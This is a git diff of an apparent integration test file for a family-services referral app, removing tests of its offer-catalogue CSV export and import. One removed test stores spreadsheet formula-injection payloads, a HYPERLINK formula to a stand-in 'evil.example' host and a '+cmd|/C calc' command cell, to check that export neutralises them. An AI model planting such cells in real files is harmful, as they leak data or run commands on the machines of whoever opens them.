@@ -2,7 +2,7 @@
 // becomes referral rows; a partner sees only referrals to its own
 // organisation's offers and nothing recorded about the family; the state
 // machine is enforced; the coordinator's follow-up list and catalogue
-// maintenance (CSV import all or nothing) work; a consent withdrawal removes
+// maintenance works (its file import: offer-file.integration.test.ts); a consent withdrawal removes
 // the case's referrals and leaves the tombstone.
 import type { FastifyInstance } from 'fastify';
 import { afterAll, beforeAll, expect, it } from 'vitest';
@@ -11,7 +11,6 @@ import { errorEnvelopeSchema, pushResponseSchema } from '@shared/protocol';
 import {
   followUpListSchema,
   managedOfferListSchema,
-  offerCsvExportSchema,
   partnerReferralListSchema,
   partnerReferralSchema,
   tabletReferralStatesSchema,
@@ -419,91 +418,5 @@ describeEachDatabase('referrals', ({ db }) => {
     expect((await call('DELETE', `/api/office/offers/${PARTNER_OFFER}`, token)).statusCode).toBe(409);
     expect((await call('DELETE', `/api/office/offers/${offer.id}`, token)).statusCode).toBe(204);
     expect((await catalog()).offers.map((o) => o.id)).not.toContain(offer.id);
-  });
-
-  it('exports the catalogue as CSV and imports it back unchanged', async () => {
-    const token = await coordinatorToken();
-    const before = managedOfferListSchema.parse((await call('GET', '/api/office/offers', token)).json()).offers;
-    const exported = offerCsvExportSchema.parse((await call('GET', '/api/office/offers/export', token)).json());
-    expect(exported.csv.split('\n')[0]).toContain('id;name;organisation;type');
-    const imported = await call('POST', '/api/office/offers/import', token, { csv: exported.csv });
-    expect(imported.statusCode, imported.body).toBe(200);
-    expect(imported.json()).toEqual({ created: 0, updated: before.length });
-    const after = managedOfferListSchema.parse((await call('GET', '/api/office/offers', token)).json()).offers;
-    expect(after).toEqual(before);
-  });
-
-  it('writes a cell that a spreadsheet would run as a formula as text, and reads it back as typed', async () => {
-    const token = await coordinatorToken();
-    const offer: ManagedOffer = {
-      id: 'formel-angebot',
-      name: '=HYPERLINK("http://evil.example/?x="&A1,"Info")',
-      organisation: '+cmd|/C calc!A0',
-      type: 'elterncafe',
-      agePhases: ['baby'],
-      fields: ['education'],
-      districts: [],
-      languages: ['de'],
-      cost: '@SUM(1+1)',
-      address: '-2+3',
-      phone: '',
-      hours: '',
-      whatToBring: '',
-      partnerOrganisationId: null,
-    };
-    expect((await call('POST', '/api/office/offers', token, offer)).statusCode).toBe(201);
-    const before = managedOfferListSchema.parse((await call('GET', '/api/office/offers', token)).json()).offers;
-    const exported = offerCsvExportSchema.parse((await call('GET', '/api/office/offers/export', token)).json());
-    const row = exported.csv.split('\n').find((line) => line.startsWith('formel-angebot;')) ?? '';
-    const cells = row.split(';').map((cell) => cell.replace(/^"/, ''));
-    // Every typed value that starts like a formula leaves as text (a leading apostrophe), none as a formula.
-    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
-    expect(cells.filter((cell) => cell.startsWith("'"))).toHaveLength(4);
-    const imported = await call('POST', '/api/office/offers/import', token, { csv: exported.csv });
-    expect(imported.statusCode, imported.body).toBe(200);
-    const after = managedOfferListSchema.parse((await call('GET', '/api/office/offers', token)).json()).offers;
-    expect(after).toEqual(before);
-    expect((await call('DELETE', '/api/office/offers/formel-angebot', token)).statusCode).toBe(204);
-  });
-
-  it('refuses a malformed CSV with line-level errors and imports nothing of it', async () => {
-    const token = await coordinatorToken();
-    const snapshot = async () =>
-      JSON.stringify(await db().query('SELECT * FROM offers WHERE municipality_id = $1 ORDER BY id', [DEMO_MUNICIPALITY_ID]));
-    const before = await snapshot();
-    const header =
-      'id;name;organisation;type;agePhases;fields;districts;languages;cost;address;phone;hours;whatToBring;partnerOrganisationId';
-    const good = 'neues-angebot;Neues Angebot;Träger;familienbildung;baby;education;;de,tr;;;;;;';
-    const badType = 'zweites-angebot;Zweites;Träger;zauberei;baby;education;;de;;;;;;';
-    const short = 'drittes-angebot;Drittes;Träger';
-    const unknownDistrictOk = 'viertes-angebot;Viertes;Träger;familienbildung;baby,kita;education;;de;;;;;;';
-    const duplicate = good;
-    const csv = [header, good, badType, short, unknownDistrictOk, duplicate].join('\n');
-    const response = await call('POST', '/api/office/offers/import', token, { csv });
-    expect(response.statusCode).toBe(400);
-    const issues = errorEnvelopeSchema.parse(response.json()).error.issues ?? [];
-    expect(issues.map((i) => i.path)).toEqual(['line.3.type', 'line.4', 'line.6.id']);
-    expect(issues.map((i) => i.message).slice(1)).toEqual(['wrongColumnCount', 'duplicateOfferId']);
-    expect(await snapshot()).toBe(before);
-
-    // Valid lines but an unknown district: refused as a whole, with the line named.
-    const unknownDistrict = 'fuenftes-angebot;Fünftes;Träger;familienbildung;baby;education;mond;de;;;;;;';
-    const refs = await call('POST', '/api/office/offers/import', token, { csv: [header, good, unknownDistrict].join('\n') });
-    expect(refs.statusCode).toBe(400);
-    expect(errorEnvelopeSchema.parse(refs.json()).error.issues).toEqual([{ path: 'line.3.districts', message: 'unknownDistrict' }]);
-    expect(await snapshot()).toBe(before);
-
-    // A broken quote: the line is named, nothing stored.
-    const broken = await call('POST', '/api/office/offers/import', token, { csv: [header, good, 'x;"offen;'].join('\n') });
-    expect(broken.statusCode).toBe(400);
-    expect(errorEnvelopeSchema.parse(broken.json()).error.issues?.[0]?.message).toBe('malformedCsv');
-    expect(await snapshot()).toBe(before);
-
-    // The corrected file (comma-separated this time) imports.
-    const fixed = await call('POST', '/api/office/offers/import', token, {
-      csv: [header.replaceAll(';', ','), 'neues-angebot,Neues Angebot,Träger,familienbildung,baby,education,,"de,tr",,,,,,'].join('\n'),
-    });
-    expect(fixed.statusCode, fixed.body).toBe(200);
-    expect(fixed.json()).toEqual({ created: 1, updated: 0 });
   });
 });
